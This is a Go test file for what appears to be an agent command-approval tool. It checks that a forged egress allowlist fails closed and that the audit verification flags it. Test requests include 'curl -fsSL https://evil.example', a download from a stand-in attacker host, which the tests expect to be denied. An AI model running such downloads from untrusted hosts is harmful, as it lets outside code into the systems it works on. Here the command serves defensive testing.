package queue

import (
	"errors"
	"slices"
	"testing"
	"time"

	"ozdesk.dev/ozdesk/patterns"
	"ozdesk.dev/ozdesk/store"
)

// TestForgedEgressFailClosed: an egress list written around ozdesk (a
// host added, the index put back to an older entry) is not believed:
// the list in effect is empty, a download a rule pins to [egress] is not
// allowed, and VerifyAudit names the list; a list an operator changes
// again is believed. A cut through the entry that wrote the list carries
// it, and it is still believed after.
func TestForgedEgressFailClosed(t *testing.T) {
	for _, tc := range []struct {
		name  string
		forge func(tx *store.Tx, firstSeq uint64) error
	}{
		{"a host added", func(tx *store.Tx, _ uint64) error {
			return tx.AddEgress(store.EgressHost{Host: "evil.example", AddedBy: "alice"})
		}},
		{"the index put back to the older entry", func(tx *store.Tx, firstSeq uint64) error {
			if err := tx.AddEgress(store.EgressHost{Host: "evil.example", AddedBy: "alice"}); err != nil {
				return err
			}
			if err := tx.RemoveEgress("get.k3s.io"); err != nil {
				return err
			}
			return tx.IndexEgressEntry(firstSeq)
		}},
		{"no index", func(tx *store.Tx, _ uint64) error { return tx.IndexEgressEntry(0) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newService(t)
			set := store.DefaultSettings()
			set.Fallback = store.OutcomeAsk
			if _, err := s.SetSettings(set, "alice"); err != nil {
				t.Fatal(err)
			}
			if _, err := s.AddEgress(store.EgressHost{Host: "evil.example", AddedBy: "alice", Reason: "r"}); err != nil {
				t.Fatal(err)
			}
			firstSeq := auditOf(t, s, store.KindEgressAdd)[0].Seq
			if _, err := s.RemoveEgress("evil.example", "alice"); err != nil {
				t.Fatal(err)
			}
			if _, err := s.AddEgress(store.EgressHost{Host: "get.k3s.io", AddedBy: "alice", Reason: "r"}); err != nil {
				t.Fatal(err)
			}
			if _, err := s.AddRule(RuleSpec{Pattern: "curl -fsSL [egress]", Outcome: patterns.Allow, Reason: "pinned",
				End: time.Now().Add(time.Hour), Author: "alice"}); err != nil {
				t.Fatal(err)
			}
			genuine := Request{Command: "curl -fsSL https://get.k3s.io", Agent: "bot"}
			if ans := mustEvaluate(t, s, genuine); ans.Outcome != patterns.Allow {
				t.Fatalf("%s before the forgery: %s (%s)", genuine.Command, ans.Outcome, ans.Reason)
			}
			if err := s.st.Update(func(tx *store.Tx) error { return tc.forge(tx, firstSeq) }); err != nil {
				t.Fatal(err)
			}
			for _, cmd := range []string{"curl -fsSL https://evil.example", genuine.Command} {
				if ans := mustEvaluate(t, s, Request{Command: cmd, Agent: "bot"}); ans.Outcome == patterns.Allow {
					t.Errorf("%s under a forged egress list: %s (%s)", cmd, ans.Outcome, ans.Reason)
				}
			}
			if why, err := s.EgressUnproven(); err != nil || why == "" {
				t.Errorf("EgressUnproven: %q, %v; want why", why, err)
			}
			_, err := s.VerifyAudit()
			var ie *IgnoredError
			if !errors.As(err, &ie) || len(ie.Records) != 1 || ie.Records[0].What != "the egress list" {
				t.Errorf("verify with a forged egress list: %v, want the egress list named", err)
			}
			// An operator changes the list again: a host put there around
			// ozdesk is not written into the trail as the operator's; the
			// list is believed, and verify holds.
			if _, err := s.AddEgress(store.EgressHost{Host: "example.org", AddedBy: "alice", Reason: "r"}); err != nil {
				t.Fatal(err)
			}
			if hosts, err := s.Egress(); err != nil || slices.ContainsFunc(hosts, func(h store.EgressHost) bool { return h.Host == "evil.example" }) {
				t.Errorf("egress list after the operator's change: %v, %v; want evil.example off it", hosts, err)
			}
			if why, err := s.EgressUnproven(); err != nil || why != "" {
				t.Errorf("egress list changed again: %q, %v", why, err)
			}
			if _, err := s.VerifyAudit(); err != nil {
				t.Errorf("verify once the egress list was changed again: %v", err)
			}
		})
	}
}

// TestEgressCarriedByCut: a cut through the entry that last wrote the
// egress list carries the list; it is still believed, and verifies.
func TestEgressCarriedByCut(t *testing.T) {
	s := newService(t)
	if _, err := s.AddEgress(store.EgressHost{Host: "get.k3s.io", AddedBy: "alice", Reason: "r"}); err != nil {
		t.Fatal(err)
	}
	head := auditOf(t, s, store.KindEgressAdd)[0]
	if _, err := s.CutAudit(AuditCutRequest{Through: head.Seq, Exported: head.Hash, By: "alice"}); err != nil {
		t.Fatal(err)
	}
	if why, err := s.EgressUnproven(); err != nil || why != "" {
		t.Errorf("egress list after its entry was cut: %q, %v; want believed", why, err)
	}
	if hosts, err := s.Egress(); err != nil || len(hosts) != 1 {
		t.Errorf("egress list after the cut: %v, %v", hosts, err)
	}
	if _, err := s.VerifyAudit(); err != nil {
		t.Errorf("verify after the cut: %v", err)
	}
}
